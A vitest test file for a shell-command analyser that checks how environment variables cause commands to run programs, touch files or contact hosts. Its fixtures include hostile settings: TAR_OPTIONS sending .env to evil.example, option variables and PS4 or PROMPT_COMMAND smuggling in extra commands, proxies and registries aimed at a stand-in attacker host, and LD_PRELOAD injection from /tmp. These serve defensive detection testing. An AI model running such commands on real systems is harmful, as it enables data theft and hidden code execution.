// What variables around a command make it run, read, write and contact.
import { describe, expect, test } from 'vitest'
import type { Facts } from '../../src/model/types.ts'
import { environment } from '../../src/shell/programs/data/environment.ts'
import { effectsOf } from '../../src/shell/programs/effects.ts'
import { variableKinds } from '../../src/shell/programs/roles/variables.ts'
import { programOf } from '../../src/shell/programs/table.ts'
import { factsOfShell } from '../../src/shell/reader.ts'
import { loaders } from '../support/loaders.ts'
import { world } from './programs-world.ts'

const factsOf = (text: string): Facts => factsOfShell(text, world, { effectsOf, parser: loaders.parser })

const ways = [
  (setting: string, command: string) => `${setting} ${command}`,
  (setting: string, command: string) => `env ${setting} ${command}`,
  (setting: string, command: string) => `export ${setting}; ${command}`,
]

describe('a variable holds options of its program', () => {
  test.each([
    ["TAR_OPTIONS='--to-command=./deploy.sh'", 'tar xf shop.tar', 'rm -rf build'],
    ["TAR_OPTIONS='--checkpoint=1 --checkpoint-action=exec=./deploy.sh'", 'tar cf x.tar src', 'rm -rf build'],
    ['TAR_OPTIONS=\'-I "npm publish"\'', 'tar cf x.tar src', 'npm publish'],
    ["ZIPOPT='-T -TT ./deploy.sh'", 'zip x.zip src', 'rm -rf build'],
    ["MANOPT='-P ./deploy.sh'", 'man ls', 'rm -rf build'],
    ["VIMINIT='!npm publish'", 'vim orders.ts', 'npm publish'],
  ])('%s %s runs %s', (setting, command, run) => {
    for (const way of ways)
      expect(factsOf(way(setting, command)).commands.map(({ argv }) => argv.join(' '))).toContain(run)
  })

  test('what a variable writes and where it sends it are known', () => {
    const { hosts, reads } = factsOf("TAR_OPTIONS='--create --file=evil.example:/x' tar -- .env")
    expect(hosts).toEqual(['evil.example'])
    expect(reads.map(({ path }) => path)).toEqual(['/shop/.env'])
    expect(factsOf("TAR_OPTIONS='--force-local --create --file=a:b' tar -- .env").hosts).toEqual([])
  })

  test('other programs do not take them', () => {
    expect(factsOf("TAR_OPTIONS='--to-command=./deploy.sh' ls").commands).toHaveLength(1)
  })
})

describe('a variable names a host', () => {
  test.each([
    ['DOCKER_HOST=tcp://evil.example:2375', 'docker ps'],
    ['npm_config_registry=http://evil.example/', 'npm view cart'],
    ['PIP_INDEX_URL=https://evil.example/simple', 'pip install cart'],
    ['PGHOST=evil.example', 'psql -l'],
    ['AWS_ENDPOINT_URL=https://evil.example', 'aws s3 ls'],
    ['https_proxy=http://evil.example:3128', 'curl https://shop.example/'],
    ['ALL_PROXY=socks5://evil.example:1080', 'git fetch'],
    ['HTTP_PROXY=evil.example:3128', 'npm install'],
  ])('%s %s', (setting, command) => {
    for (const way of ways) expect(factsOf(way(setting, command)).hosts).toContain('evil.example')
  })

  test.each([
    'https_proxy=http://proxy.example:3128 ls',
    'export https_proxy=http://proxy.example:3128; git status',
    'DOCKER_HOST=unix:///run/user/1000/docker.sock docker ps',
    'PGHOST=/var/run/postgresql psql -l',
    'GOPROXY=off go build ./...',
  ])('%s contacts nobody', (text) => {
    expect(factsOf(text).hosts).toEqual([])
  })
})

describe('a variable names a file', () => {
  test.each([
    ['GIT_TRACE2_EVENT=$PWD/.env git status', 'edits', '/shop/.env'],
    ['GIT_TRACE=/shop/trace git log', 'creates', '/shop/trace'],
    ['NODE_V8_COVERAGE=covered node cart.js', 'creates', '/shop/covered'],
    ['SSLKEYLOGFILE=.env curl https://shop.example', 'edits', '/shop/.env'],
  ] as const)('%s %s %s', (text, kind, path) => {
    expect(factsOf(text)[kind].map((fact) => fact.path)).toContain(path)
  })

  test.each(['GIT_TRACE=1 git status', 'GIT_TRACE2=true git status', 'NODE_V8_COVERAGE= node cart.js'])(
    '%s writes nothing',
    (text) => expect([...factsOf(text).creates, ...factsOf(text).edits]).toEqual([]),
  )
})

describe('a library from elsewhere is loaded into any program', () => {
  const isUnknown = (text: string) =>
    factsOf(text).unresolved.some(({ about }) => about.includes('reads') && about.includes('commands'))

  test.each([
    'LD_PRELOAD=/tmp/x.so ls',
    'LD_PRELOAD="/usr/lib/libm.so /tmp/x.so" ls',
    'LD_PRELOAD=/usr/lib/libm.so:$HOME/x.so ls',
    'LD_AUDIT=/dev/shm/x.so git status',
    'DYLD_INSERT_LIBRARIES=/tmp/x.dylib ls',
    'export LD_PRELOAD=/tmp/x.so; ls',
  ])('%s', (text) => expect(isUnknown(text)).toBe(true))

  test.each([
    'LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libjemalloc.so.2 node cart.js',
    'LD_PRELOAD=libm.so ls',
    'LD_PRELOAD=./build/cart.so ./cart',
    'LD_PRELOAD= ls',
    'LD_LIBRARY_PATH=build ./cart',
  ])('%s is ordinary', (text) => expect(isUnknown(text)).toBe(false))
})

describe('a directory in PATH holds programs of its own', () => {
  test.each(['PATH=/shop deploy.sh', 'PATH=.:/bin deploy.sh', 'PATH=$PWD:$PATH deploy.sh'])('%s', (text) => {
    expect(factsOf(text).commands.map(({ argv }) => argv.join(' '))).toContain('rm -rf build')
  })
})

test('substitutions in prompts run', () => {
  const runs = (text: string) => factsOf(text).commands.map(({ argv }) => argv.join(' '))
  expect(runs("PS4='$(npm publish)' bash -xc ls")).toContain('npm publish')
  expect(runs("PS4='+ $LINENO ' bash -xc ls")).toEqual(['ls'])
  expect(runs("PROMPT_COMMAND='npm publish' bash -i")).toContain('npm publish')
})

test('every kind of the table of variables does something, and no variable stands twice for a program', () => {
  const lines = environment.trim().split('\n')
  const isKind = (line: string): boolean => {
    const [kind = '', program = ''] = line.split(/[ :]/)
    return Object.hasOwn(variableKinds, kind) || programOf(program)?.option(kind) !== undefined
  }
  expect(lines.filter((line) => !isKind(line))).toEqual([])
  const pairs = lines.flatMap((line) => {
    const [said = '', names = ''] = line.split(': ')
    const programs = said.split(' ').slice(1)
    return names
      .split(' ')
      .flatMap((name) => (programs.length === 0 ? ['*'] : programs).map((each) => `${each} ${name}`))
  })
  expect(pairs.filter((pair, at) => pairs.indexOf(pair) !== at)).toEqual([])
})
